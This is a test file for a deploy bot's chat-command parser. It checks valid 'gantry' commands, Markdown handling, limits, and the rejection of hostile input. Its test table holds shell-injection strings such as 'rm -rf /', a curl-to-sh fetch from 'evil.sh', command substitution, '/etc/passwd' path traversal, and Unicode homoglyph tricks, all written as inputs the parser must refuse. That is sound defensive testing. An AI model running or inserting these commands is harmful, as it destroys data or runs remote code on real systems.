import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonical } from '../../../src/core/command/command.ts';
import { renderHelp } from '../../../src/core/command/help.ts';
import { type ParsedComment, parseComment } from '../../../src/core/command/parse.ts';
import { LIMITS } from '../../../src/core/command/patterns.ts';

/** A parse result in one line per command: `promote prod` or `! error text`. */
function summary(parsed: ParsedComment): string | string[] {
  if (parsed.kind === 'none') return 'none';
  if (parsed.kind === 'rejected') return `rejected: ${parsed.error}`;
  return parsed.commands.map((c) =>
    c.result.ok ? canonical(c.result.command) : `! ${c.result.error}${c.result.help ? ' +help' : ''}`,
  );
}

const long = (n: number) => 'x'.repeat(n);

/** [case, comment, expected: 'none', a list of canonical commands / `! error` prefixes, or /rejected/]. */
const CASES: Array<[string, string, string | string[] | RegExp]> = [
  // the verbs
  ['promote', '/gantry promote prod', ['promote prod']],
  ['verb in capitals', '/gantry PROMOTE prod', ['promote prod']],
  ['verb in mixed case', '/gantry ProMote prod', ['promote prod']],
  ['prefix in capitals (ASCII only)', '/GANTRY promote prod', ['promote prod']],
  ['one target', '/gantry promote prod/eu-west', ['promote prod/eu-west']],
  [
    'apps, repeated and sorted',
    '/gantry promote prod --app web --app api',
    ['promote prod --app api --app web'],
  ],
  ['--app=NAME', '/gantry promote prod --app=web', ['promote prod --app web']],
  ['the same app twice counts once', '/gantry promote prod --app web --app web', ['promote prod --app web']],
  ['options before the environment', '/gantry promote --app web prod', ['promote prod --app web']],
  ['--force', '/gantry promote prod --force', ['promote prod --force']],
  [
    '--from a sibling target',
    '/gantry promote prod-eu --from prod-asia',
    ['promote prod-eu --from prod-asia'],
  ],
  ['--from=ENV', '/gantry promote staging --from=prod --app web', ['promote staging --app web --from prod']],
  ['--from twice', '/gantry promote prod --from a --from b', ['! --from may be given once']],
  ['--from without a value', '/gantry promote prod --from', ['! --from needs a value']],
  ['--from a path', '/gantry promote prod --from ../x', ['! --from: "../x" is not an environment']],
  ['option name in capitals', '/gantry promote prod --FORCE', ['promote prod --force']],
  ['tabs between words', '/gantry\tpromote\tprod', ['promote prod']],
  ['trailing whitespace', '/gantry promote prod   \t', ['promote prod']],
  ['a quoted environment is still data', '/gantry promote "prod"', ['promote prod']],
  ['rollback', '/gantry rollback prod', ['rollback prod']],
  ['rollback --to', '/gantry rollback prod --app web --to 1.4.0', ['rollback prod --app web --to 1.4.0']],
  [
    'rollback to a non-semver tag',
    '/gantry rollback prod --to sha-9f2c1e7',
    ['rollback prod --to sha-9f2c1e7'],
  ],
  ['freeze', '/gantry freeze prod', ['freeze prod']],
  ['freeze with a quoted reason', '/gantry freeze prod "incident 42"', ['freeze prod "incident 42"']],
  [
    'freeze with an unquoted reason',
    '/gantry freeze prod incident 42 in eu',
    ['freeze prod "incident 42 in eu"'],
  ],
  ['freeze --for', '/gantry freeze prod --for 2h db migration', ['freeze prod --for 2h "db migration"']],
  ['typographic quotes', '/gantry freeze prod “smart quotes”', ['freeze prod "smart quotes"']],
  ['emoji in a reason', '/gantry freeze prod 🔥 hot fix', ['freeze prod "🔥 hot fix"']],
  ['unfreeze', '/gantry unfreeze prod', ['unfreeze prod']],
  ['canary', '/gantry canary', ['canary']],
  ['canary --window', '/gantry canary --window 15m', ['canary --window 15m']],
  ['status', '/gantry status', ['status']],
  ['help', '/gantry help', ['help']],
  ['help on a verb', '/gantry help Rollback', ['help rollback']],
  ['the prefix alone asks for help', '/gantry', ['help']],
  ['@bot prefix', '@gantry-bot promote prod', ['promote prod']],
  ['@bot prefix in capitals', '@Gantry-Bot status', ['status']],
  ['three spaces of indentation are not code', '   /gantry status', ['status']],
  ['CRLF line endings', 'thanks!\r\n/gantry status\r\n/gantry help\r\n', ['status', 'help']],
  ['old Mac line endings', 'hi\r/gantry status', ['status']],

  // wrong usage
  ['missing environment', '/gantry promote', ['! missing environment; usage: /gantry promote']],
  ['extra word', '/gantry promote prod staging', ['! unexpected "staging"; usage:']],
  ['--app without value', '/gantry promote prod --app', ['! --app needs a value']],
  ['--app followed by an option', '/gantry promote prod --app --force', ['! --app needs a value']],
  ['app name in capitals', '/gantry promote prod --app Web', ['! --app: "Web" is not an app name']],
  ['misspelt option', '/gantry promote prod --aap web', ['! unknown option "--aap" (did you mean "--app"?)']],
  ['option of another verb', '/gantry promote prod --window 1m', ['! unknown option "--window"']],
  [
    'options on a verb without any',
    '/gantry status --json',
    ['! unknown option "--json"; status takes no options'],
  ],
  ['a value for a flag', '/gantry promote prod --force=yes', ['! --force takes no value']],
  ['em dash instead of --', '/gantry promote prod —app web', ['! "\\u{2014}app" looks like an option']],
  ['single-dash option', '/gantry promote prod -f', ['! "-f" looks like an option']],
  ['misspelt verb', '/gantry promot prod', ['! unknown command "promot" (did you mean "promote"?) +help']],
  ['unknown verb', '/gantry deploy prod', ['! unknown command "deploy" +help']],
  ['quoted verb', '/gantry "promote" prod', ['! unknown command "promote"']],
  ['help on nothing known', '/gantry help deploy', ['! no help on "deploy"']],
  ['status takes no argument', '/gantry status now', ['! unexpected "now"']],
  ['window without unit', '/gantry canary --window 15', ['! --window: "15" is not a duration']],
  ['zero window', '/gantry canary --window 0m', ['! --window: "0m" is not a duration']],
  ['window twice', '/gantry canary --window 15m --window 30m', ['! --window may be given once']],
  ['unfreeze without environment', '/gantry unfreeze', ['! missing environment']],
  ['unterminated quote', '/gantry freeze prod "incident', ['! unterminated quote "']],
  ['text glued to a closing quote', '/gantry freeze prod "a"b', ['! a space must follow the closing quote']],
  [
    'reason too long',
    `/gantry freeze prod ${long(LIMITS.reasonChars + 1)}`,
    ['! the reason is longer than 200'],
  ],

  // hostile: shell, paths, injection
  ['shell separator', '/gantry promote prod; rm -rf /', ['! "prod;" is not an environment']],
  ['shell operators', '/gantry promote prod && curl evil.sh | sh', ['! unexpected "&&"']],
  ['command substitution', '/gantry promote $(whoami)', ['! "$(whoami)" is not an environment']],
  ['backticks', '/gantry promote `id`', ['! "`id`" is not an environment']],
  [
    'quoted shell in --to',
    "/gantry rollback prod --to '1.4.0; rm -rf /'",
    ['! --to: "1.4.0; rm -rf /" is not an image tag'],
  ],
  ['path traversal', '/gantry promote ../../etc/passwd', ['! "../../etc/passwd" is not an environment']],
  ['traversal inside a target', '/gantry promote prod/../../x', ['! "prod/../../x" is not an environment']],
  [
    'YAML in a version',
    '/gantry rollback prod --to "1.0\\n  evil: true"',
    ['! --to: "1.0\\\\n  evil: true" is not an image tag'],
  ],
  ['PromQL in a window', '/gantry canary --window 5m}[1h]', ['! --window: "5m}[1h]" is not a duration']],
  [
    'space in a quoted app',
    '/gantry promote prod --app "web api"',
    ['! --app: "web api" is not an app name'],
  ],
  ['NUL byte', '/gantry promote prod\u0000', ['! "prod\\u{0}" is not an environment']],

  // hostile: lookalikes and invisible characters never make a prefix
  ['Cyrillic a in the prefix', '/gаntry promote prod', 'none'],
  ['Greek omicron-like letters', '/gantrу promote prod', 'none'],
  ['zero-width space inside the prefix', '/\u200bgantry promote prod', 'none'],
  ['zero-width space before the prefix', '\u200b/gantry promote prod', 'none'],
  ['zero-width joiner after the prefix', '/gantry\u200d promote prod', 'none'],
  ['no-break space after the prefix', '/gantry\u00a0promote prod', 'none'],
  ['BOM before the prefix', '\ufeff/gantry promote prod', 'none'],
  ['fullwidth solidus', '／gantry promote prod', 'none'],
  ['division slash', '∕gantry promote prod', 'none'],
  ['Kelvin sign is not k (no Unicode case folding)', '@gantry-\u212aot status', 'none'],
  ['prefix glued to a word', '/gantryfoo promote prod', 'none'],
  ['Cyrillic o in the environment', '/gantry promote prоd', ['! "pr\\u{43e}d" is not an environment']],
  [
    'Cyrillic o in the verb',
    '/gantry prоmote prod',
    ['! unknown command "pr\\u{43e}mote" (did you mean "promote"?) +help'],
  ],
  [
    'zero-width space in the environment',
    '/gantry promote pr\u200bod',
    ['! "pr\\u{200b}od" is not an environment'],
  ],
  [
    'right-to-left override in the environment',
    '/gantry promote \u202edorp',
    ['! "\\u{202e}dorp" is not an environment'],
  ],
  [
    'right-to-left override in a reason',
    '/gantry freeze prod ok\u202eevil',
    ['! the reason contains an invisible or control character (U+202E)'],
  ],
  [
    'no-break space between words',
    '/gantry promote\u00a0prod',
    ['! unknown command "promote\\u{a0}prod" +help'],
  ],

  // hostile: Markdown that renders as something other than a command
  ['in a fenced code block', 'see:\n```\n/gantry promote prod\n```', 'none'],
  ['in a tilde fence', '~~~sh\n/gantry promote prod\n~~~', 'none'],
  ['in an unclosed fence', '```\n/gantry promote prod', 'none'],
  ['a shorter fence does not close', '````\n```\n/gantry promote prod\n````\n/gantry status', ['status']],
  [
    'a fence of the other character does not close',
    '```\n~~~\n/gantry promote prod\n```\n/gantry status',
    ['status'],
  ],
  ['after a closed fence', '```\ncode\n```\n/gantry status', ['status']],
  ['indented code', 'example:\n\n    /gantry promote prod', 'none'],
  ['tab-indented code', '\t/gantry promote prod', 'none'],
  ['in a quote', '> /gantry promote prod', 'none'],
  ['in a nested quote', '> > /gantry promote prod', 'none'],
  ['lazy continuation of a quote', '> please run\n/gantry promote prod', 'none'],
  ['after a quote and a blank line', '> please run\n\n/gantry promote prod', ['promote prod']],
  ['in an HTML comment', '<!--\n/gantry promote prod\n-->', 'none'],
  ['after a one-line HTML comment', '<!-- note -->\n/gantry status', ['status']],
  ['in inline code mid-sentence', 'run `/gantry promote prod` later', 'none'],
  ['mid-sentence', 'please /gantry promote prod', 'none'],
  ['in a list item', '- /gantry promote prod', 'none'],
  ['in a heading', '# /gantry promote prod', 'none'],

  // several commands, limits
  [
    'two commands in order',
    '/gantry promote staging\n/gantry promote prod',
    ['promote staging', 'promote prod'],
  ],
  [
    'a bad line does not hide a good one',
    '/gantry promote\n/gantry status',
    ['! missing environment; usage: /gantry promote', 'status'],
  ],
  ['five commands', Array(5).fill('/gantry status').join('\n'), Array(5).fill('status')],
  [
    'six commands: none run',
    Array(6).fill('/gantry status').join('\n'),
    /^rejected: this comment has 6 commands; at most 5/,
  ],
  [
    'over-long comment with a command',
    `/gantry status\n${long(LIMITS.commentChars)}`,
    /^rejected: this comment is 10015 characters long/,
  ],
  ['over-long comment without commands', long(LIMITS.commentChars * 10), 'none'],
  [
    'over-long line',
    `/gantry freeze prod ${long(LIMITS.lineChars)}`,
    ['! the command is 520 characters long; at most 500'],
  ],
  [
    'too many words',
    `/gantry freeze prod ${Array(LIMITS.args).fill('w').join(' ')}`,
    ['! too many words after "freeze" (17); at most 16'],
  ],
  ['empty comment', '', 'none'],
];

describe('parseComment', () => {
  it('has a table of at least 60 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
  });

  it.each(CASES)('%s', (_name, body, expected) => {
    const got = summary(parseComment(body, { botName: 'gantry-bot' }));
    if (expected instanceof RegExp) expect(got).toMatch(expected);
    else if (typeof expected === 'string') expect(got).toBe(expected);
    else {
      expect(got).toHaveLength(expected.length);
      (got as string[]).forEach((line, i) => {
        if (expected[i]!.startsWith('!')) expect(line.slice(0, expected[i]!.length)).toBe(expected[i]);
        else expect(line).toBe(expected[i]);
      });
    }
  });

  it('knows the @bot prefix only when told the bot name, and refuses a name that is not plain ASCII', () => {
    expect(parseComment('@gantry-bot status')).toEqual({ kind: 'none' });
    expect(summary(parseComment('@gantry-bots status', { botName: 'gantry-bot' }))).toBe('none');
    expect(() => parseComment('x', { botName: 'gаntry' })).toThrow(/not a plain ASCII handle/);
  });

  it('keeps the line number and the text as typed for replies', () => {
    const parsed = parseComment('hello\n\n  /gantry PROMOTE prod  ');
    expect(parsed).toEqual({
      kind: 'commands',
      commands: [
        {
          line: 3,
          text: '/gantry PROMOTE prod',
          result: { ok: true, command: { verb: 'promote', env: 'prod', apps: [], force: false } },
        },
      ],
    });
  });

  it('writes help whose examples are never read back as commands', () => {
    const help = renderHelp({ botName: 'gantry-bot' });
    expect(help).toContain('/gantry promote <env>[/<target>] [--app NAME]... [--from ENV] [--force]');
    expect(help).toContain('`@gantry-bot` works as well');
    expect(parseComment(help, { botName: 'gantry-bot' })).toEqual({ kind: 'none' });
    expect(renderHelp({ topic: 'freeze' })).not.toContain('/gantry promote');
  });
});

/** Fragments that exercise every branch of the line scanner and the tokenizer. */
const fragment = fc.constantFrom(
  '/gantry ',
  '/GANTRY',
  '@gantry-bot ',
  'promote ',
  'rollback ',
  'freeze ',
  'prod',
  'prod/eu-west',
  '--app ',
  '--app=',
  '--force',
  '--to ',
  '--for ',
  '--window ',
  '15m',
  '"',
  "'",
  '“',
  '”',
  '```',
  '~~~',
  '> ',
  '    ',
  '\t',
  '<!--',
  '-->',
  '\n',
  '\r\n',
  '\r',
  ' ',
  '—',
  '-',
  '\u200b',
  '\u202e',
  'а',
  '\u0000',
  '🔥',
  '\ud800',
);

describe('parseComment on any input', () => {
  it('never throws and stays within its limits, for any string up to 10 KB', () => {
    const input = fc.oneof(
      fc.string({ maxLength: 10_240, unit: 'binary' }),
      fc.array(fragment, { maxLength: 400 }).map((parts) => parts.join('')),
      fc
        .tuple(fc.array(fragment, { maxLength: 60 }), fc.string({ maxLength: 200, unit: 'grapheme' }))
        .map(([parts, tail]) => `${parts.join('')}${tail}`),
    );
    fc.assert(
      fc.property(input, (body) => {
        const parsed = parseComment(body, { botName: 'gantry-bot' });
        if (parsed.kind === 'commands') {
          expect(parsed.commands.length).toBeLessThanOrEqual(LIMITS.commands);
          for (const c of parsed.commands)
            if (c.result.ok) expect(typeof canonical(c.result.command)).toBe('string');
        }
        if (parsed.kind === 'rejected') expect(parsed.lines).toBeGreaterThan(0);
        expect(parseComment(body, { botName: 'gantry-bot' })).toEqual(parsed);
      }),
      { numRuns: 600 },
    );
  });

  it('accepts only validated arguments: every parsed environment, app and version matches its pattern', () => {
    const word = fc.string({ maxLength: 30, unit: 'binary' }).filter((w) => !/[\s"'“‘]/.test(w));
    fc.assert(
      fc.property(word, word, word, (env, app, to) => {
        const parsed = parseComment(`/gantry rollback ${env} --app=${app} --to=${to}`);
        if (parsed.kind !== 'commands' || !parsed.commands[0]!.result.ok) return;
        const command = parsed.commands[0]!.result.command;
        expect(command.verb).toBe('rollback');
        if (command.verb !== 'rollback') return;
        expect(command.env).toMatch(/^[A-Za-z0-9_/.-]+$/);
        expect(command.env.split('/')).not.toContain('..');
        for (const a of command.apps) expect(a).toMatch(/^[a-z0-9-]+$/);
        expect(command.to ?? '').toMatch(/^[A-Za-z0-9_.-]*$/);
      }),
      { numRuns: 500 },
    );
  });
});
